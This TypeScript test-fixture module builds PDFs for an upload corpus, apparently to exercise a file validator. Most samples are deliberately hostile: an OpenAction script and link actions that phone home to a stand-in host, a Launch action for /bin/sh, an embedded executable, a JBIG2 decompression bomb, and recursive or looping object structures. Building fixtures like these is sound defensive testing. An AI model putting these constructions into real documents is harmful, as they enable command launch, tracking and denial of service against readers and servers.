// PDF files for the upload corpus, written by hand: each object says what is wrong with it.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { needProgram } from '../debian.js';

type PdfParts = { /** Into the catalogue. */ catalog?: string; /** Into each page. */ page?: string; /** More objects, from 100 on, as text. */ more?: readonly string[]; info?: string; pages?: number; content?: string };

/** A PDF of so many pages with one line on each. */
export function pdf({ catalog = '', page = '', more = [], info = '', pages = 1, content = 'BT /F1 24 Tf 72 700 Td (Hallo) Tj ET' }: PdfParts = {}): Buffer {
  const objects = new Map<number, string>();
  const first = 200;
  objects.set(1, `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`);
  objects.set(2, `<< /Type /Pages /Kids [${Array.from({ length: pages }, (_, at) => `${first + at} 0 R`).join(' ')}] /Count ${pages} >>`);
  objects.set(3, `<< /Length ${content.length} >>\nstream\n${content}\nendstream`);
  objects.set(4, '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  if (info) objects.set(5, `<< ${info} >>`);
  more.forEach((text, at) => objects.set(100 + at, text));
  for (let at = 0; at < pages; at += 1) objects.set(first + at, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> ${page} >>`);
  const parts = ['%PDF-1.7\n%\u00e2\u00e3\n'];
  let at = parts[0]!.length;
  const offsets: [number, number][] = [];
  for (const [number, text] of [...objects].sort(([a], [b]) => a - b)) {
    offsets.push([number, at]);
    const whole = `${number} 0 obj\n${text}\nendobj\n`;
    parts.push(whole);
    at += whole.length;
  }
  const table = offsets.map(([number, offset]) => `${number} 1\n${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  parts.push(`xref\n0 1\n0000000000 65535 f \n${table}trailer\n<< /Size ${first + pages} /Root 1 0 R ${info ? '/Info 5 0 R' : ''} >>\nstartxref\n${at}\n%%EOF\n`);
  return Buffer.from(parts.join(''), 'latin1');
}

const stream = (text: string, more = '') => `<< /Length ${text.length} ${more} >>\nstream\n${text}\nendstream`;
/** Where the hostile ones want to phone home to; a test that listens there sets it. */
export const home = { url: 'http://192.0.2.1/phone-home' };

export const hostilePdfs: Readonly<Record<string, () => Buffer>> = {
  'a script that runs when it is opened': () => pdf({ catalog: `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${home.url}"\\)) >>` }),
  'an action that starts a program': () => pdf({ catalog: '/OpenAction << /S /Launch /F (/bin/sh) >>' }),
  'an action of each page': () => pdf({ page: `/AA << /O << /S /URI /URI (${home.url}) >> >>` }),
  'a file inside it': () => pdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 100 0 R] >> >>', more: ['<< /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>', stream('MZ', '/Type /EmbeddedFile')] }),
  'a form of XFA': () => pdf({ catalog: '/AcroForm << /XFA 100 0 R /Fields [] >>', more: [stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><x href="${home.url}"/></xdp:xdp>`)] }),
  'an address to phone home to': () => pdf({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${home.url}) >> >>]` }),
  'a picture that lies elsewhere': () => pdf({ page: '/Annots [100 0 R]', more: [`<< /Type /Annot /Subtype /Screen /Rect [0 0 99 99] /A << /S /GoToR /F << /FS /URL /F (${home.url}) >> /D [0 /Fit] >> >>`] }),
  'an author and a title': () => pdf({ info: '/Author (Zwartkop8101) /Title (Rietzanger8102) /Producer (K8105)' }),
  'a form that calls itself': () => pdf({ content: '/X Do', page: '/Resources << /XObject << /X 100 0 R >> >>', more: [stream('/X Do', '/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 100 0 R >> >>')] }),
};

/** A table of contents whose "before this" is itself. */
export function loopedPdf(): Buffer {
  const text = pdf().toString('latin1');
  const at = /startxref\n(\d+)/.exec(text)?.[1] ?? '0';
  return Buffer.from(text.replace('<< /Size', `<< /Prev ${at} /Size`), 'latin1');
}

/** Pages that contain each other: the tree has no end. */
export const endlessTreePdf = (): Buffer => Buffer.from(pdf().toString('latin1').replace('/Kids [200 0 R] /Count 1', '/Kids [2 0 R] /Count 1'), 'latin1');

/** One page with a picture of hundreds of millions of points, in a few bytes (a bomb of JBIG2). */
export const jbig2Pdf = (): Buffer =>
  pdf({
    content: '600 0 0 800 0 0 cm /X Do',
    page: '/Resources << /XObject << /X 100 0 R >> >>',
    more: [stream('\u0000\u0000\u0000\u0000\u0030\u0000\u0001\u0000\u0000\u0000\u0013\u0000\u0001\u0000\u0000\u0000\u0001\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000\u0000', '/Type /XObject /Subtype /Image /Width 65536 /Height 65536 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode')],
  });

/** A page as large as a field: two hundred inches each way. */
export const widePdf = (): Buffer => Buffer.from(pdf().toString('latin1').replace('/MediaBox [0 0 595 842]', '/MediaBox [0 0 14400 14400]'), 'latin1');

/** Words of Arabic on A4, as a browser or an office program prints them: with the letters inside. Made by our own press. */
export async function arabicPdf(): Promise<Buffer> {
  const { pdfOf } = await import('#app/domain/archive/pdf.server.ts');
  const items = [{ term: 'بيان عائلي', lines: ['الاسم: رانيا الخطيب', 'مكان الولادة: ريف حمص ١٩٨٩'].map((text) => ({ text, said: true, label: '', item: '', note: '' })) }];
  const made = pdfOf({ lang: 'ar', dir: 'rtl', title: 'بيان', lead: [], parts: [{ title: 'القسم الأول', items }] }, new Date('2026-11-24T09:00:00Z'), 'ua-1');
  if (!made.ok) throw new Error(`no PDF: ${made.why}`);
  return made.pdf;
}

/** @param passwords of the reader and of the owner; an empty one of the reader opens by itself. @throws Error without qpdf. */
export function lockedPdf({ user, owner }: { user: string; owner: string }): Buffer {
  const qpdf = needProgram('qpdf');
  if (!qpdf) throw new Error('qpdf is not installed (Debian: apt-get install qpdf)');
  const folder = mkdtempSync(join(tmpdir(), 'voorportaal-pdf-'));
  try {
    writeFileSync(join(folder, 'in.pdf'), pdf());
    execFileSync(qpdf, ['--encrypt', user, owner, '256', '--', join(folder, 'in.pdf'), join(folder, 'out.pdf')], { stdio: 'ignore' });
    return readFileSync(join(folder, 'out.pdf'));
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}
